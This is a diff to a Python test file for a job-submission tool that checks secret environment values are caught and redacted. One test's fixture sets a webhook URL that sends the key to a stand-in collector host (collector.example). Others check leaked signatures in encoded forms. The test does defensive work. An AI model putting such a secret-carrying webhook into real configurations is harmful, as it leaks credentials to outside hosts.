@@ -134,7 +134,7 @@ def test_the_key_in_two_variables(studio: Studio) -> None:
 
 def test_a_variable_that_comes_to_hold_the_key(studio: Studio) -> None:
     """A job that was approved before is looked at again when it is sent."""
-    studio.extra["STUDIO_KEY"] = SECRET
+    studio.extra |= {"STUDIO_KEY": SECRET, "STORYBOARD_ALLOW_ENV": "STUDIO_KEY"}
     board = studio.board(output=", webhook_url: 'https://collector.example/?k=${STUDIO_KEY}'")
     studio.killed("submit", board, "--yes", at="written_down")
     studio.extra["STUDIO_KEY"] = KEY
@@ -146,7 +146,7 @@ def test_a_variable_that_comes_to_hold_the_key(studio: Studio) -> None:
 @pytest.mark.parametrize("spelled", [quote(SECRET).replace("-", "%2D"), SECRET.upper(), SECRET.encode().hex()])
 def test_a_value_that_the_service_repeats_otherwise(studio: Studio, spelled: str) -> None:
     """The value of a variable is taken out of the service's words in other notations too."""
-    studio.extra["UPLOAD_SIGNATURE"] = SECRET
+    studio.extra |= ALLOWED
     studio.provider.add_outcomes(Outcome(code="uploadFailed", message=f"No answer from https://e.org/?sig={spelled}"))
     board = studio.board(output=", upload_endpoint: 'https://example.org/up?sig=${UPLOAD_SIGNATURE}'")
     ran = studio.submit(board)
